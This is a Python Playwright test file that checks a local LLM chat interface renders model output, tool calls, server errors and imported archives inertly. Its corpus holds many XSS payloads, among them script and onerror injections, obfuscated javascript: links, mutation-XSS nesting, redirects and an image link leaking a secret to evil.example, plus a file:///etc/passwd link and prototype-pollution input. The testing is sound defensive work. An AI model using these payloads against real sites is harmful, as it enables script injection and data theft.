"""What a model writes, names, error texts and imported files are hostile: nothing of them runs, loads or navigates.

The fixture `page` fails a test where a script raised, a dialog or a window opened, a policy was broken, or a request
went elsewhere.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect
from support.browser import ask, last_answer, ready, script
from support.live_server import Live

pytestmark = pytest.mark.browser

OWN = "document.title='owned'"
CORPUS = [
    f"<script>{OWN}</script>",
    f'<img src=x onerror="{OWN}">',
    f"<svg onload={OWN}>",
    f'<svg><script href="data:text/javascript,{OWN}"/></svg>',
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={OWN}>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>',
    "<link rel=stylesheet href=https://evil.example/><style>@import 'https://evil.example/';</style>",
    f"<details open ontoggle={OWN}><summary>x</summary></details>",
    f"<input autofocus onfocus={OWN}><textarea autofocus onfocus={OWN}></textarea>",
    f'<form action=https://evil.example/><button id=send>x</button></form><a href="javascript:{OWN}">x</a>',
    "<audio src=https://evil.example/><video poster=https://evil.example/><embed src=https://evil.example/>",
    f"[click](javascript:{OWN})",
    f"[click](JaVaScRiPt&colon;{OWN})",
    f"[click](\x01javascript:{OWN})",
    f"[click](java\tscript:{OWN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:http://127.0.0.1/x)",
    f'![pixel](https://evil.example/?q=secret) ![x](x"onerror="{OWN})',
    f'[x](https://evil.example/"onmouseover="{OWN})',
    f"[a]: javascript:{OWN}\n\n[a] and ![a]\n\n[__proto__]: https://evil.example/ 'x'\n\n[__proto__] [constructor]",
    f'<https://evil.example/"onclick={OWN}> <javascript:{OWN}>',
    f"`<img src=x onerror={OWN}>`\n\n```html\n<script>{OWN}</script>\n```\n\n    <script>{OWN}</script>",
    f'```"><img src=x onerror={OWN}>\nx\n```',
    f'```json onload={OWN}\n{{"a": "<img src=x onerror={OWN}>"}}\n```',
    f"| <img src=x onerror={OWN}> | b |\n|---|:-:|\n| [x](javascript:{OWN}) | <script>{OWN}</script> |",
    f"- [x] <img src=x onerror={OWN}>\n\n# <svg/onload={OWN}>\n\n> <script>{OWN}</script>",
    "<a id=send name=body>x</a><form id=composer><input name=children></form><img name=getElementById>",
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    f"<!--><img src=x onerror={OWN}>--> <![CDATA[<img src=x onerror={OWN}>]]> <?xml <img src=x onerror={OWN}> ?>",
    f"<template><script>{OWN}</script></template><xmp><img src=x onerror={OWN}></xmp>",
    f"&lt;img src=x onerror={OWN}&gt; &#60;script&#62;{OWN}&#60;/script&#62;",
    f"\u202e<script>{OWN}</script>\u2028<img src=x onerror={OWN}>\0<script>{OWN}</script>",
    ">" * 3000 + " deep",
    "[" * 3000 + "](https://evil.example/)" + "*" * 2000 + "_" * 2000,
]
EVERYTHING = "\n\n".join(CORPUS)


@pytest.fixture
def inert(page: Page, live: Live):
    """Checks that the page is where it was, and has nothing in it that could do anything."""
    ready(page, live)
    title = f"{live.llm.plan.artifact.name} · EdgeLLM"
    expect(page).to_have_title(title)
    moves: list[str] = []
    page.on("framenavigated", lambda frame: moves.append(frame.url))

    def check() -> None:
        page.wait_for_function("() => document.readyState === 'complete'")
        expect(page.locator(".turn [aria-busy]")).to_have_count(0)
        assert page.title() == title
        assert moves == []
        kinds = "script, iframe, object, embed, img, video, audio, link, style, meta, base, form[action], template"
        assert page.locator(f":is(.turn, nav, aside, #problem) :is({kinds})").count() == 0
        handlers = "els => els.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on') || n === 'style')"
        assert page.locator(".turn *").evaluate_all(handlers) == []
        for link in page.locator(".turn a").all():
            assert link.get_attribute("href").startswith(("https://", "http://"))
            assert link.get_attribute("rel") == "noopener noreferrer"

    return check


def test_what_the_model_writes_is_inert(page: Page, inert) -> None:
    """Each by itself, as a stream, and again as a whole where it was kept: one may hide another."""
    for n, text in enumerate(CORPUS, 1):
        script(page, *({"content": text[at : at + 7]} for at in range(0, len(text), 7)))
        ask(page, "go")
        expect(page.locator(".turn.assistant .foot .speed")).to_have_count(n)
    inert()
    page.locator("#conversations .title").click()
    expect(page.locator(".turn")).to_have_count(60)
    inert()
    page.locator(".earlier").click()
    expect(page.locator(".turn.assistant")).to_have_count(len(CORPUS))
    expect(last_answer(page)).to_contain_text("https://evil.example/")
    inert()


@pytest.mark.parametrize("text", [pytest.param("click me", marks=pytest.mark.slow(2)), "https://good.example/"])
def test_a_link_shows_where_it_leads(page: Page, inert, text: str) -> None:
    script(page, {"content": f"[{text}](https://evil.example/p?q=1) ![{text}](https://evil.example/i.png)"})
    ask(page, "go")

    expect(last_answer(page).locator("a")).to_have_text([text, text])
    expect(last_answer(page).locator(".address")).to_have_text(
        ["https://evil.example/p?q=1", "https://evil.example/i.png"]
    )
    inert()


@pytest.mark.slow(3)
def test_thoughts_calls_and_the_models_name_are_inert(page: Page, inert) -> None:
    call = {"index": 0, "id": CORPUS[1], "function": {"name": CORPUS[0], "arguments": json.dumps({"a": CORPUS[1]})}}
    script(page, {"reasoning_content": EVERYTHING}, {"tool_calls": [call]}, finish="tool_calls")
    ask(page, "go")
    expect(page.locator(".call")).to_be_visible()
    page.locator(".reasoning summary").click()

    expect(page.locator(".thought")).to_contain_text("onerror")
    inert()


def test_arguments_are_shown_in_lines_where_that_makes_them_little_longer(page: Page, inert) -> None:
    """Blanks before deep values grow with the square of their depth: 49 kB stopped the browser for minutes."""
    shown = {
        '{"a":[1]}': '{\n  "a": [\n    1\n  ]\n}',
        "[" * 40 + "]" * 40: "",
        "[" * 30 + "1,2," * 900 + "3" + "]" * 30: "",
    }
    calls = [{"index": i, "id": f"c{i}", "function": {"name": "f", "arguments": text}} for i, text in enumerate(shown)]
    script(page, {"tool_calls": calls}, finish="tool_calls")
    ask(page, "go")

    expect(page.locator(".call pre code")).to_have_text([lines or text for text, lines in shown.items()])
    inert()


def test_names_reasons_and_errors_of_the_server_are_inert(page: Page, live: Live) -> None:
    plan = live.http.get("/edgellm/plan").json()
    bad = CORPUS[1]
    plan |= {
        "model": bad,
        "quant": bad,
        "backend": bad,
        "reasons": [bad, f"Model: {bad}"],
        "engine": {"device": bad, bad: bad},
    }
    page.route("**/edgellm/plan*", lambda route: route.fulfill(json=plan))
    page.route("**/v1/models", lambda route: route.fulfill(json={"object": "list", "data": [{"id": bad}]}))

    def refuse(route: Route) -> None:
        route.fulfill(status=400, json={"error": {"message": EVERYTHING, "code": bad}})

    page.route("**/v1/chat/completions", refuse)
    ready(page, live)
    expect(page.locator("#model")).to_have_text(bad)
    ask(page, "go")
    expect(page.locator("#problem-text")).to_contain_text("onerror")

    assert page.title() == f"{bad} · EdgeLLM"
    assert page.locator(":is(header, aside, #problem) :is(img, script, iframe)").count() == 0


def archive(**message: Any) -> dict[str, Any]:
    one = {"id": "1", "parent": None, "role": "user", "content": EVERYTHING, "created": 1}
    answer = {"id": "2", "parent": "1", "role": "assistant", "content": CORPUS[1], "created": 2, **message}
    conversation = {"title": CORPUS[1], "system": CORPUS[0], "leaf": "2", "messages": [one, answer]}
    return {"format": "edgellm-conversations", "version": 1, "conversations": [conversation]}


def load(page: Page, content: object) -> None:
    text = content if isinstance(content, str) else json.dumps(content)
    page.set_input_files("#archive", {"name": "x.json", "mimeType": "application/json", "buffer": text.encode()})


def test_an_imported_conversation_is_inert(page: Page, inert) -> None:
    more = {
        "__proto__": {"polluted": 1},
        "onclick": "x",
        "finish": "length",
        "model": CORPUS[1],
        "reasoning": EVERYTHING,
    }
    files = [{"name": CORPUS[1], "text": EVERYTHING}]
    calls = [{"id": "c", "name": CORPUS[0], "arguments": CORPUS[1]}]
    load(page, archive(**more, files=files, calls=calls))
    expect(page.locator("#toast")).to_contain_text("Imported 1 conversation")
    page.locator("#conversations .title").click()
    expect(page.locator(".turn")).to_have_count(2)
    for summary in page.locator(".turn.assistant details > summary").all():
        summary.click()

    inert()
    assert page.evaluate("({}).polluted") is None


NO_ARCHIVES = [
    "",
    "null",
    "[]",
    "{",
    '{"format": "other", "version": 1, "conversations": []}',
    '{"format": "edgellm-conversations", "version": 1, "conversations": {"length": 1}}',
    '{"format": "edgellm-conversations", "version": 1, "conversations": [null]}',
    archive(role="system"),
    archive(parent="2"),
    archive(parent="3"),
    archive(id="1"),
    archive(id=None),
    archive(content=["x"]),
    archive(files=[{"name": {}, "text": "x"}]),
    archive(calls="x"),
    archive(content="x" * 5_000_000),
    '{"format": "edgellm-conversations", "version": 1, "conversations": ' + "[" * 20_000 + "]" * 20_000 + "}",
]


def test_a_file_that_is_no_archive_is_refused_whole(page: Page, inert) -> None:
    for content in NO_ARCHIVES:
        load(page, content)
        expect(page.locator("#problem-text")).to_contain_text("The file was not imported")
        page.click("#dismiss")
    expect(page.locator("#conversations li")).to_have_count(0)
    inert()
